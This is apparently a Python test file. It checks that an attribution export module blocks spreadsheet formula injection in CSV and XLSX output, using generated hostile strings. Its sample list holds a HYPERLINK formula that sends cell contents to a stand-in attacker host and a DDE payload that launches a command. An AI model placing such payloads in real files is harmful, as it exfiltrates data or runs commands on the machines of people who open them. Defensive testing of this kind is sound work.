"""T46/T47 over generated hostile strings: no CSV or XLSX cell ever becomes a formula.

Each Hypothesis example exports a batch of strings that start with a formula character
more often than chance would (plus arbitrary text, control characters and astral code
points) into every text column, reads the files back with ``csv`` and openpyxl, and checks
the exact documented transformation. The batches add up to at least 10,000 strings.
"""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from attribution.export import COLUMNS, export_rows
from attribution.export.cells import NUMERIC_COLUMNS, replace_xml_illegal

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\0"]
TEXT_COLUMNS = [c for c in COLUMNS if c not in NUMERIC_COLUMNS]
BATCH = 100
EXAMPLES = 100  # 100 x 100 = 10,000 strings per run

hostile = st.one_of(
    st.builds(lambda p, rest: p + rest, st.sampled_from(PREFIXES), st.text(max_size=30)),
    st.sampled_from(
        [
            '=HYPERLINK("http://attacker.example/?"&A1,"x")',
            "@SUM(1)",
            "-2+3",
            "{=1+1}",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "https://example.com",
            "'=already quoted",
        ]
    ),  # fmt: skip
    st.text(max_size=40),
)


def _rows(strings: list[str]) -> list[dict[str, Any]]:
    rows = []
    for i, text in enumerate(strings):
        row: dict[str, Any] = {c: text for c in TEXT_COLUMNS}
        row.update(id=f"id{i:06d}", content_start=-i, content_end=i, score=-0.5)
        rows.append(row)
    return rows


def _expected(text: str) -> str:
    return "'" + text if text.startswith(tuple(PREFIXES)) else text


def test_no_generated_string_becomes_a_formula() -> None:
    seen: list[int] = []

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.lists(hostile, min_size=BATCH, max_size=BATCH))
    def check(strings: list[str]) -> None:
        seen.append(len(strings))
        rows = _rows(strings)
        with tempfile.TemporaryDirectory() as tmp:
            _check_csv(strings, Path(tmp) / "x.csv", rows)
            _check_xlsx(strings, Path(tmp) / "x.xlsx", rows)

    check()
    assert sum(seen) >= 10_000


def _check_csv(strings: list[str], out: Path, rows: list[dict[str, Any]]) -> None:
    export_rows(rows, out, "csv")
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    assert len(table) == len(strings) + 1
    for i, (text, record) in enumerate(zip(strings, table[1:], strict=True)):
        assert len(record) == len(COLUMNS)
        for column, cell in zip(COLUMNS, record, strict=True):
            if column in NUMERIC_COLUMNS:
                continue
            if column == "id":
                assert cell == f"id{i:06d}"
                continue
            assert cell == _expected(text)
            assert not cell.startswith(tuple(PREFIXES))
        assert record[COLUMNS.index("score")] == "-0.5"  # numbers are not prefixed


def _check_xlsx(strings: list[str], out: Path, rows: list[dict[str, Any]]) -> None:
    export_rows(rows, out, "xlsx")
    wb = load_workbook(out)
    ws = wb["statements"]
    assert ws.max_row == len(strings) + 1
    note = COLUMNS.index("note") + 1
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert cell.hyperlink is None
            if isinstance(cell.value, str):
                assert not cell.value.startswith(tuple(PREFIXES))
    for i, text in enumerate(strings, start=2):
        cell = ws.cell(i, note)
        if text:
            assert cell.data_type == "s"
            assert cell.value == replace_xml_illegal(_expected(text))[0]
